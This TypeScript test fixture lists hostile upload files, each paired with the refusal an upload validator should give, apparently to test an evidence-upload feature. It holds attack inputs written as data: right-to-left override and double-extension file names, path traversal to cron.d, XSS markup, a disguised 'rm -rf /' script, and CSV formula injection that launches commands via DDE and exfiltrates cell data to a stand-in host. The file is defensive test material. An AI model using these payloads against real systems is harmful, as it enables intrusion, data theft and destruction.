import { csvBytes, exeBytes, htmlBytes, pdfBytes } from './evidence-bytes';
import type { HostileFile } from './hostile-files';

const file = (
  what: string,
  name: string,
  bytes: () => Buffer,
  refusal: string | null,
): HostileFile => ({ what, name, bytes, refusal });
const text = (content: string) => () => Buffer.from(content, 'utf8');
const RLO = '\u202E';

export const HOSTILE_OTHERS: HostileFile[] = [
  file(
    'name: a direction mark before its ending',
    `laporan${RLO}fdp.exe.pdf`,
    pdfBytes,
    'nameDirection',
  ),
  file('name: an isolate', 'a\u2066b.pdf', pdfBytes, 'nameDirection'),
  file('name: a NUL before another ending', 'a.exe\0.pdf', pdfBytes, 'nameControl'),
  file('name: a line end with a header', 'a\r\nX-A: 1.pdf', pdfBytes, 'nameControl'),
  file('name: a program’s ending within', 'a.exe.pdf', pdfBytes, 'nameDouble'),
  file('name: a page’s ending within', 'a.html.csv', csvBytes, 'nameDouble'),
  file('name: a macro’s ending within', 'a.xlsm.pdf', pdfBytes, 'nameDouble'),
  file('name: a program’s ending', 'a.pdf.exe', pdfBytes, 'ending'),
  file('name: a stream of another name', 'a.pdf:b.exe', pdfBytes, 'ending'),
  file('name: no ending', 'bukti', pdfBytes, 'ending'),
  file('name: a script’s ending', 'a.svg', htmlBytes, 'ending'),
  file('name: a path', '../../../etc/cron.d/x.pdf', pdfBytes, null),
  file('name: markup', '"><img src=x onerror=alert(1)>.pdf', pdfBytes, null),
  file('name: a thousand letters', `${'a'.repeat(1000)}.pdf`, pdfBytes, null),
  file('name: a million dots', `a${'.'.repeat(1_000_000)}b.pdf`, pdfBytes, null),
  file('empty', 'a.pdf', () => Buffer.alloc(0), 'empty'),
  file('a program named PDF', 'a.pdf', exeBytes, 'kind'),
  file(
    'an ELF program named PDF',
    'a.pdf',
    () => Buffer.from('7f454c4602010100'.padEnd(256, '0'), 'hex'),
    'kind',
  ),
  file('a script named PDF', 'a.pdf', text('#!/bin/sh\nrm -rf /\n'), 'kindUnknown'),
  file('a page named PDF', 'a.pdf', htmlBytes, 'kind'),
  file('a page named CSV', 'a.csv', htmlBytes, 'kind'),
  file(
    'a gzip named PDF',
    'a.pdf',
    () => Buffer.from('1f8b08000000000000ff'.padEnd(64, '0'), 'hex'),
    'kind',
  ),
  file('bytes of nothing', 'a.csv', () => Buffer.from([1, 2, 3, 0, 255]), 'kindUnknown'),
  file('a table under a PDF’s ending', 'a.pdf', csvBytes, 'renamed'),
  file(
    'CSV: control characters far inside',
    'a.csv',
    text(`${'a;b\n'.repeat(40_000)}a;\x00b\n`),
    'csvBroken',
  ),
  file(
    'CSV: bytes that are no UTF-8 far inside',
    'a.csv',
    () => Buffer.concat([Buffer.from('a;b\n'.repeat(40_000)), Buffer.from([0xff, 0xfe])]),
    'csvBroken',
  ),
  file(
    'CSV: cut within a letter',
    'a.csv',
    () => Buffer.from('a;é\n'.repeat(40_000)).subarray(0, -2),
    'csvBroken',
  ),
  file('CSV: a command through DDE', 'a.csv', text("a;b\n=cmd|' /C calc'!A0;1\n"), 'csvFormula'),
  file(
    'CSV: a command after a plus',
    'a.csv',
    text('a;b\n1;"+cmd|\' /C calc\'!A0"\n'),
    'csvFormula',
  ),
  file(
    'CSV: a link that takes data away',
    'a.csv',
    text('a,b\n=HYPERLINK("https://jahat.example/?"&A1),1\n'),
    'csvFormula',
  ),
  file(
    'CSV: a fetch from elsewhere',
    'a.csv',
    text('a;b\n@WEBSERVICE("https://jahat.example");1\n'),
    'csvFormula',
  ),
  file(
    'CSV: thousands of empty cells before a bracket',
    'a.csv',
    text(`nama\tjumlah (Rp)\n${`x${'\t'.repeat(60_000)}y\n`.repeat(20)}`),
    null,
  ),
  file(
    'CSV: thousands of signs before a bracket',
    'a.csv',
    text(`a,b\n${`${'-,'.repeat(30_000)}y(\n`.repeat(20)}`),
    null,
  ),
  file('CSV: a PDF inside', 'a.csv', text('a;b\n%PDF-1.4;x\n'), 'polyglot'),
  file('CSV: markup in a cell', 'a.csv', text('a;b\n<script>alert(1)</script>;2\n'), null),
  file('CSV: one line of two megabytes', 'a.csv', text(`${'a;'.repeat(1024 ** 2)}\n`), null),
];
